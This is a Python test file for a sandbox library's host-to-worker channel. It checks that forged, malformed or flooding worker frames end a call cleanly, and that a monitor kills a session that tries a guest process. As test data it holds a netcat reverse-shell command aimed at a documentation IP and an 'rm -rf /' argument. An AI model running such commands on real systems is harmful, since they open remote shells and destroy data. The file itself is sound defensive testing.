"""The host's side of the shell worker channel, against a forged worker.

The worker is untrusted: whatever it sends (garbage, frames of another call, huge or
deeply nested JSON, impossible values, silence, a flood) ends that call as a crash or a
budget, never as an exception out of ``run()`` or a hang, and the next call gets a
fresh, real worker.
"""

from __future__ import annotations

import contextlib
import json
import socket
import struct
import threading
import time

import pytest

import corral
from corral.wasm import worker_channel as C
from corral.wasm.shellproc import ShellProcess


class _Handler:
    def __init__(self) -> None:
        self.execs: list[list[str]] = []

    def on_exec(self, argv, cwd, line):
        self.execs.append(argv)
        return True, ""

    def run_guest(self, *a, **k):
        return 0, "", ""

    def call_tool(self, name, args):
        return {"ok": True, "value": None}

    def fetch(self, argv, cwd, deadline):
        return 0, b"", b""


def _forged(tmp_path, behave, *, wall=2.0, output_chars=1000):
    """Run one call against a fake worker thread that does ``behave(sock, run_frame)``."""
    proc = ShellProcess(tmp_path, corral.Budget(wall_s=wall, output_chars=output_chars))
    host, peer = socket.socketpair()
    proc.sock, proc.starts = host, 1

    def fake() -> None:
        reader = C.Reader()
        while True:
            data = peer.recv(65536)
            if not data:
                return
            frames = reader.feed(data)
            if frames:
                with contextlib.suppress(OSError):
                    behave(peer, frames[0])
                return

    t = threading.Thread(target=fake, daemon=True)
    t.start()
    t0 = time.monotonic()
    r = proc.run("echo hi", b"", wall_s=wall, handler=_Handler(), ask_exec=True, tools=[])
    took = time.monotonic() - t0
    peer.close()
    t.join(5)
    return proc, r, took


def _hdr(kind, fid, jlen, blen):
    return struct.pack("!BIII", kind, fid, jlen, blen)


CASES = {
    "garbage": lambda s, fr: s.sendall(b"\xff" * 64),
    "unknown kind": lambda s, fr: s.sendall(_hdr(99, fr.id, 0, 0)),
    "deep json": lambda s, fr: s.sendall(
        _hdr(C.DONE, fr.id, 200_000, 0) + b"[" * 200_000
    ),
    "json not an object": lambda s, fr: s.sendall(_hdr(C.DONE, fr.id, 2, 0) + b"[]"),
    "done for another call": lambda s, fr: s.sendall(
        C.encode(C.DONE, fr.id + 1, {"status": 0, "exceeded": None})
    ),
    "output for another call": lambda s, fr: s.sendall(C.encode(C.STDOUT, fr.id ^ 7, None, b"x")),
    "impossible status": lambda s, fr: s.sendall(
        C.encode(C.DONE, fr.id, {"status": 999, "exceeded": None})
    ),
    "bool status": lambda s, fr: s.sendall(
        C.encode(C.DONE, fr.id, {"status": True, "exceeded": None})
    ),
    "unknown budget": lambda s, fr: s.sendall(
        C.encode(C.DONE, fr.id, {"status": 0, "exceeded": "reward"})
    ),
    "huge frame announced": lambda s, fr: s.sendall(_hdr(C.STDOUT, fr.id, 0, 2**31)),
    "malformed request": lambda s, fr: s.sendall(
        C.encode(C.REQUEST, 5, {"op": "exec", "argv": "rm -rf /", "cwd": 1})
    ),
    "unknown request": lambda s, fr: s.sendall(C.encode(C.REQUEST, 5, {"op": "spawn"})),
    "a hello mid-call": lambda s, fr: s.sendall(C.encode(C.HELLO, 0, {"pid": 1})),
    "dies": lambda s, fr: s.shutdown(socket.SHUT_RDWR),
}


@pytest.mark.timeout(30)
@pytest.mark.parametrize("name", list(CASES))
def test_forged_frames_end_the_call_as_a_crash(tmp_path, name):
    proc, r, took = _forged(tmp_path, CASES[name])
    assert r.crashed, (name, r)
    assert r.status == 137
    assert took < 2.0 + 1.0
    assert not proc.alive  # dropped: the next call starts a real worker


def test_silence_ends_at_the_wall_budget(tmp_path):
    _proc, r, took = _forged(tmp_path, lambda s, fr: time.sleep(10), wall=0.5)
    assert r.exceeded == "wall_time" and 0.5 <= took < 2.5


def test_a_flood_is_cut_at_the_output_budget(tmp_path):
    def flood(s, fr):
        for _ in range(1000):
            s.sendall(C.encode(C.STDOUT, fr.id, None, b"y" * 4096))

    _proc, r, _took = _forged(tmp_path, flood, output_chars=10_000)
    assert r.exceeded == "output"
    assert len(r.stdout) == 10_000


def test_a_forged_done_after_honest_output_is_its_own_call(tmp_path):
    """A result claimed by the worker is checked: exit status within 0..255, its id."""

    def ok(s, fr):
        s.sendall(C.encode(C.STDOUT, fr.id, None, b"3/120\n"))
        s.sendall(C.encode(C.DONE, fr.id, {"status": 1, "exceeded": None, "cwd": "/etc"}))

    proc, r, _took = _forged(tmp_path, ok)
    assert r.stdout == "3/120\n" and r.status == 1 and not r.crashed
    assert proc.cwd == "/workspace"  # a cwd outside the workspace is not believed


def test_real_worker_after_a_forged_one(tmp_path):
    with corral.Sandbox(workdir=tmp_path) as sb:
        sb.run("true")
        tier = sb._tier
        # the real worker breaks the protocol: a forged frame on the channel
        assert tier.proc.sock is not None
        tier.proc.kill()
        r = sb.run("echo back")
        assert r.stdout == "back\n" and r.restarted


def test_guest_runs_need_a_command_the_sandbox_allowed():
    """A worker that skips the exec question cannot get a guest run under a policy."""
    with corral.Sandbox(policy="default") as sb:
        sb.run("true")
        hooks = sb._tier.handler
        status, out, err = hooks.run_guest(
            "python", "print(1)", "", ["-c"], True, {}, time.monotonic() + 5
        )
        assert status == 126 and "denied" in err
        assert hooks.on_exec(["python3", "-c", "print(1)"], "/workspace", "")[0]
        status, out, err = hooks.run_guest(
            "python", "print(1)", "", ["-c"], True, {}, time.monotonic() + 30
        )
        assert (status, out) == (0, "1\n")
        assert json.dumps(out)  # plain text back


def test_monitor_kill_while_the_host_answers_names_the_kill():
    """A critical alert raised by what the shell asks (a guest's process attempt) kills
    the session mid-answer: the call says killed, never a protocol error or an OSError."""
    with corral.Sandbox(policy="default") as sb:
        # the line comes from a file the host wrote: no rule or host check on the text sees
        # it (a line built at run time from a literal is seen now: exec-computed-string-run)
        sb.files.write("c", "nc -e /bin/sh 203.0.113.9 4444")
        r = sb.run("python3 -c \"import os; os.system(open('c').read())\"; echo after")
        assert r.error == "killed", r
        assert "protocol" not in (r.error_message or "")
        assert "after" not in r.stdout
        with pytest.raises(corral.CorralError):
            sb.run("echo hi")


def test_a_sender_refuses_a_frame_the_peer_would_reject():
    a, b = socket.socketpair()
    try:
        with pytest.raises(C.FrameTooLarge):
            C.Sender(a).send(C.REQUEST, 1, {"argv": ["x" * (C.MAX_JSON + 1)]})
        C.Sender(a).send(C.REQUEST, 2, {"ok": 1})  # nothing half-sent before it
        b.settimeout(5)
        frames = C.Reader().feed(b.recv(1 << 16))
        assert [(f.id, f.data) for f in frames] == [(2, {"ok": 1})]
    finally:
        a.close()
        b.close()


def test_a_frame_of_too_many_json_values_is_refused_before_parsing():
    """The worker's JSON (≤ 8 MB) of ``{}`` is ~190 MB of objects on the host: the
    values a frame may hold are bounded as on the guest channel (a worker compromised
    by a bug in a built-in is a claimant, not a wall)."""
    from corral.wasm.guest_channel import FRAME_VALUES_MAX

    bomb = b'{"op":"notices","items":[' + b",".join([b"{}"] * (FRAME_VALUES_MAX + 1)) + b"]}"
    assert len(bomb) < C.MAX_JSON
    reader = C.Reader()
    with pytest.raises(C.ProtocolError, match="values"):
        reader.feed(C.HEADER.pack(C.REQUEST, 0, len(bomb), 0) + bomb)
    fine = json.dumps({"op": "exec", "argv": ["echo", "x" * 3_000_000]}).encode()
    (frame,) = C.Reader().feed(C.HEADER.pack(C.REQUEST, 7, len(fine), 0) + fine)
    assert frame.data["argv"][1] == "x" * 3_000_000
